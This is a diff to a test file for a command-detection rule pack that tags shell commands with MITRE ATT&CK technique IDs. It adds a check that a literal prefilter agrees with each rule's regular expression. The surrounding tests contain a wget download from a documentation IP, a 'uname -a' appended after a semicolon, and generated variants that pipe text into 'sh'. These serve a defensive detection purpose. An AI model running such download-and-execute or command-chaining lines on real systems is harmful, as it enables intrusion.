@@ -117,6 +117,15 @@ describe('the shipped rule pack', () => {
     assert.equal(evidence.T1105, 'wget http://203.0.113.7/x.sh')
   })
 
+  it('never lets the literal prefilter hide a match the rule\'s regular expression finds', () => {
+    const texts = [...rules.flatMap((rule) => [...rule.examples.match, ...rule.examples.noMatch]), ...BENIGN, ...SESSIONS.map(([text]) => text)]
+    const variants = texts.flatMap((text) => [text, text.toUpperCase(), `x;${text}`, `${text} | sh`, text.replaceAll(' ', '\t')])
+    for (const text of variants) {
+      const hits = new Set(matcher.hits('command', text).map((hit) => hit.rule.id))
+      for (const rule of rules) assert.equal(hits.has(rule.id), rule.regex.test(text), `${rule.id} on ${JSON.stringify(text)}`)
+    }
+  })
+
   it(`reads only the first ${MAX_TEXT_LENGTH} characters of a command`, () => {
     assert.deepEqual(techniques(`${'x'.repeat(MAX_TEXT_LENGTH - 10)}; uname -a`), ['T1082'])
     assert.deepEqual(techniques(`${'x'.repeat(MAX_TEXT_LENGTH)}; uname -a`), [])
